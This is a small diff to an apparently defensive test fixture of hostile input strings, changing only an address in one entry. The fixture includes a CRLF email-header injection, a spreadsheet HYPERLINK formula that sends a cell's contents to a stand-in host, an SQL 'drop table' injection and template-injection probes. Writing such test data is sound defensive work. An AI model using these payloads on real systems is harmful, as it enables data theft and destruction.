@@ -12,7 +12,7 @@ const HOSTILE: Record<string, string> = {
   "right to left": "\u202Eتاريخ ١٢٣ \u2066שלום\u2069",
   emoji: "👩🏽‍🍳🇵🇭💸".repeat(5),
   NUL: "Ana\u0000Reyes\u0000",
-  controls: "a\u0001b\u001b[31m\r\nBcc: somebody@elsewhere.test",
+  controls: "a\u0001b\u001b[31m\r\nBcc: someone@elsewhere.test",
   HTML: MARKUP,
   formula: `=HYPERLINK("https://elsewhere.test?"&A1,"Open")`,
   SQL: `'); drop table employees; -- %00 \${1+1} {{7*7}}`,
